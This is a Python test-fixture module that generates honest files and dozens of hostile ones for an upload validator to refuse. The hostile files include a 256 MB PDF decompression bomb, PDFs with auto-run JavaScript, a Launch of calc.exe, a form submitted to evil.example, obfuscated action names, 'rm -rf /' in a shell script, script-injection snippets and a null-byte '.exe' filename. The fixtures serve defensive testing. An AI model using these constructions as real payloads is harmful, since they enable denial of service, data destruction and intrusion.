"""Files for the tests: honest ones, and hostile ones of many kinds, made here and never taken from anywhere."""

import io
import struct
import zipfile
import zlib
from functools import cache

from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, StreamObject, TextStringObject


@cache
def pdf(pages: int = 1) -> bytes:
    """Return an honest PDF."""
    writer = PdfWriter()
    for _page in range(pages):
        writer.add_blank_page(200, 200)
    return written(writer)


def written(writer: PdfWriter) -> bytes:
    target = io.BytesIO()
    writer.write(target)
    return target.getvalue()


def picture(kind: str = "JPEG", size: tuple[int, int] = (60, 40)) -> bytes:
    """Return an honest picture."""
    target = io.BytesIO()
    Image.new("RGB", size, (200, 30, 30)).save(target, kind)
    return target.getvalue()


def with_object(**entries) -> bytes:
    """Return a PDF whose catalogue has further entries."""
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    for name, value in entries.items():
        writer.root_object[NameObject(f"/{name}")] = value
    return written(writer)


def action(kind: str, **more) -> DictionaryObject:
    return DictionaryObject({NameObject("/S"): NameObject(f"/{kind}")} | {NameObject(f"/{name}"): value for name, value in more.items()})


def attached() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    writer.add_attachment("invoice.exe", b"MZ")
    return written(writer)


def encrypted(user: str, owner: str) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    writer.encrypt(user, owner)
    return written(writer)


def annotated(subtype: str, **more) -> bytes:
    writer = PdfWriter()
    page = writer.add_blank_page(200, 200)
    note = DictionaryObject({
        NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject(f"/{subtype}"),
        NameObject("/Rect"): ArrayObject([NumberObject(n) for n in (0, 0, 9, 9)])}
        | {NameObject(f"/{name}"): value for name, value in more.items()})
    page[NameObject("/Annots")] = ArrayObject([writer._add_object(note)])
    return written(writer)


def raw(*objects: bytes, root: int = 1) -> bytes:
    """Return a PDF of numbered objects as they stand, with a table that is right."""
    body, places = b"%PDF-1.7\n", []
    for number, content in enumerate(objects, 1):
        places.append(len(body))
        body += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    table = b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1) + b"".join(b"%010d 00000 n \n" % place for place in places)
    return body + table + b"trailer\n<</Size %d/Root %d 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, root, len(body))


PAGES = (b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>", b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>")


def packed(*objects: bytes) -> bytes:
    """Return a PDF in which the dangerous objects lie compressed in an object stream, where no search of the bytes finds them."""
    heads, bodies = b"", b""
    for number, content in enumerate(objects, 20):
        heads += b"%d %d " % (number, len(bodies))
        bodies += content + b" "
    return with_object_stream(zlib.compress(heads + bodies), len(objects), len(heads))


def with_object_stream(stream: bytes, count: int, first: int, filters: bytes = b"/FlateDecode") -> bytes:
    """Return a PDF with a later revision whose table names ``count`` objects, from 20 on, in a packed object stream."""
    plain = raw(*PAGES)
    place = len(plain)
    body = plain + (b"19 0 obj\n<</Type/ObjStm/N %d/First %d/Filter%s/Length %d>>\nstream\n" % (count, first, filters, len(stream))
                    + stream + b"\nendstream\nendobj\n")
    entries = struct.pack(">BIB", 1, place, 0) + b"".join(struct.pack(">BIB", 2, 19, index) for index in range(count))
    table, previous = len(body), int(plain[plain.rindex(b"startxref\n") + 10:].split()[0])
    packed_entries = zlib.compress(entries)
    body += (b"30 0 obj\n<</Type/XRef/Size 31/Root 1 0 R/Prev %d/W[1 4 1]/Index[19 %d]/Filter/FlateDecode/Length %d>>\nstream\n"
             % (previous, count + 1, len(packed_entries)) + packed_entries + b"\nendstream\nendobj\n")
    return body + b"startxref\n%d\n%%%%EOF\n" % table


@cache
def bomb() -> bytes:
    """Return a PDF whose object stream unpacks to 256 MB."""
    packer = zlib.compressobj(9)
    layer = b"".join(packer.compress(b" " * 2**20) for _mega in range(256)) + packer.flush()
    return with_object_stream(zlib.compress(layer, 9), 1, 5, b"[/FlateDecode/FlateDecode]")


def loop_of_pages() -> bytes:
    return raw(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[2 0 R]/Count 1>>")


def deep() -> bytes:
    return raw(*PAGES, b"[" * 50_000 + b"]" * 50_000)


def huge_png(width: int, height: int) -> bytes:
    """Return a PNG whose header promises more than it has."""

    def chunk(name, body):
        return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))

    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(b"\0" * 100)) + chunk(b"IEND", b""))


def archive(name: str) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as file:
        file.writestr(name, "x" * 1000)
    return target.getvalue()


def hostile() -> dict[str, tuple[str, bytes]]:
    """Return what to refuse, by what it is: name and content of the file."""
    text, script = TextStringObject("app.alert(1)"), b"app.alert(1)"
    javascript = action("JavaScript", JS=text)
    embedded = StreamObject()
    embedded[NameObject("/Type")] = NameObject("/EmbeddedFile")
    files = {
        "nothing": b"", "text": b"hello", "html": b"<html><script>alert(1)</script></html>", "svg": b"<svg onload=alert(1)>",
        "a program": b"MZ" + b"\0" * 200, "an elf": b"\x7fELF" + b"\0" * 200, "a shell script": b"#!/bin/sh\nrm -rf /\n",
        "a zip": archive("a.txt"), "only the first bytes": b"%PDF-1.7", "no end": pdf()[:-10], "half": pdf()[: len(pdf()) // 2],
        "a script before the header": b"<script>alert(1)</script>" + pdf(), "a zip behind the end": pdf() + archive("a.txt"),
        "html behind the end": pdf() + b"<html>", "no pages": raw(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[]/Count 0>>"),
        "no catalogue": raw(b"<<>>"), "pages in a circle": loop_of_pages(), "a very deep list": deep(), "a bomb": bomb(),
        "201 pages": pdf(201), "locked": encrypted("secret", "owner"), "locked for changes": encrypted("", "owner"),
        "JavaScript on opening": with_object(OpenAction=javascript),
        "JavaScript in an additional action": with_object(AA=DictionaryObject({NameObject("/WC"): javascript})),
        "a program on opening": with_object(OpenAction=action("Launch", F=TextStringObject("calc.exe"))),
        "another file on opening": with_object(OpenAction=action("GoToR", F=TextStringObject("//evil/x.pdf"))),
        "a form sent on opening": with_object(OpenAction=action("SubmitForm", F=TextStringObject("https://evil.example"))),
        "data taken in on opening": with_object(OpenAction=action("ImportData", F=TextStringObject("x.fdf"))),
        "an XFA form": with_object(AcroForm=DictionaryObject({NameObject("/XFA"): text})),
        "an attachment": attached(), "a file in a note": annotated("FileAttachment"), "a film": annotated("Movie"),
        "rich media": annotated("RichMedia"), "a screen": annotated("Screen"),
        "a link that runs a script": annotated("Link", A=javascript),
        "escaped JavaScript": raw(*PAGES, b"<</S/J#61vaScript/JS(x)>>"), "escaped Launch": raw(*PAGES, b"<</S/#4caunch/F(calc.exe)>>"),
        "a script in an unused object": raw(*PAGES, b"<</S/JavaScript/JS(%s)>>" % script),
        "a script in an older revision": raw(*PAGES, b"<</S/JavaScript/JS(x)>>") + b"1 0 obj\n<<>>\nendobj\n%%EOF\n",
        "a packed script": packed(b"<</S/JavaScript/JS(x)>>"), "a packed attachment": packed(b"<</Type/Filespec/EF<</F 21 0 R>>>>"),
        "a packed name": packed(b"<</S 21 0 R/JS(x)>>", b"/JavaScript"),
    }
    made = {name: ("paper.pdf", content) for name, content in files.items()}
    pictures = {
        "a gif": picture("GIF"), "a bmp": picture("BMP"), "half a jpeg": picture()[:200], "a jpeg's first bytes": b"\xff\xd8\xff",
        "a script behind them": b"\xff\xd8\xff<script>alert(1)</script>", "41 megapixels": huge_png(8200, 5001),
        "ten gigapixels": huge_png(100_000, 100_000),
        "a huge webp": b"RIFF\x1a\x00\x00\x00WEBPVP8X\x0a\x00\x00\x00\x00\x00\x00\x00" + b"\xff\x3f\x00" * 2 + b"\x00" * 8,
    }
    made |= {name: ("scan.png" if "pixels" in name else "scan.webp" if "webp" in name else "scan.jpg", content)
             for name, content in pictures.items()}
    made |= {
        "a picture named pdf": ("paper.pdf", picture()), "a pdf named jpg": ("scan.jpg", pdf()),
        "a png named jpg": ("scan.jpg", picture("PNG")),
        "a pdf named exe": ("paper.exe", pdf()), "a pdf named html": ("paper.pdf.html", pdf()),
        "a pdf without a name": ("", pdf()),
        "a pdf named svg": ("paper.svg", pdf()), "xlsx": ("paper.xlsx", archive("xl/workbook.xml")),
        "a hidden ending": ("paper.pdf\x00.exe", pdf()),
    }
    return made
